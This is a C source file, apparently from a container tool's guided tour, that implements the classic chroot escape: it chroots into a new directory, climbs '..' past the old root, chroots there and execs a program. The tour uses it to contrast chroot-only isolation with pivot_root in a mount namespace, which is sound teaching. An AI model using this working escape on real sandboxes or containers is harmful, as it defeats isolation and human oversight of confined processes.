/* berth-chroot-escape: the classic chroot escape, for `berth tour` (its chapter on chroot). berth
 * never runs it on the host: the tour copies it into a container and runs it there, once in a
 * container that is only chrooted (--isolation chroot: it reaches the host's root) and once in one
 * whose root was pivoted in a mount namespace of its own (it stays inside).
 *
 *   berth-chroot-escape PROGRAM [ARG...]
 *
 * chroot(2) moves a process's root but not its working directory, and ".." stops only at the
 * root. So a process that may call chroot makes a directory, chroots into it while its working
 * directory stays above it, climbs ".." for as long as that leads somewhere new (past the old root,
 * which no longer stops it), chroots there and execs PROGRAM from what is now its root. Each step
 * is printed, as the shell line it amounts to, before it is made. */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define ESCAPE_DIR "chroot-escape.d"
/* More levels than any real path has: the climb stops where ".." is "." anyway. */
#define MAX_LEVELS 256

static int fail(const char *step) {
  printf("berth-chroot-escape: %s: %s\n", step, strerror(errno));
  return 1;
}

static int same_dir(const struct stat *a, const struct stat *b) {
  return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

int main(int argc, char **argv) {
  if (argc < 2) {
    fprintf(stderr, "usage: berth-chroot-escape PROGRAM [ARG...]\n");
    return 2;
  }
  setvbuf(stdout, NULL, _IONBF, 0); /* each line out before the step it announces */
  printf("cd / && mkdir %s\n", ESCAPE_DIR);
  if (chdir("/") < 0) return fail("chdir /");
  if (mkdir(ESCAPE_DIR, 0755) < 0 && errno != EEXIST) return fail("mkdir " ESCAPE_DIR);
  printf("chroot %s        # the root moves down; the working directory stays above it\n", ESCAPE_DIR);
  if (chroot(ESCAPE_DIR) < 0) return fail("chroot " ESCAPE_DIR);
  int levels = 0;
  struct stat here, up;
  for (; levels < MAX_LEVELS; levels++) {
    if (stat(".", &here) < 0 || stat("..", &up) < 0) return fail("stat . and ..");
    if (same_dir(&here, &up)) break; /* ".." of "." is "." itself: the top of this mount tree */
    if (chdir("..") < 0) return fail("chdir ..");
  }
  printf("cd ..                         # %d time%s, until \"..\" is \".\" itself\n", levels, levels == 1 ? "" : "s");
  printf("chroot .\n");
  if (chroot(".") < 0) return fail("chroot .");
  printf("exec %s\n", argv[1]);
  execv(argv[1], argv + 1);
  return fail(argv[1]);
}
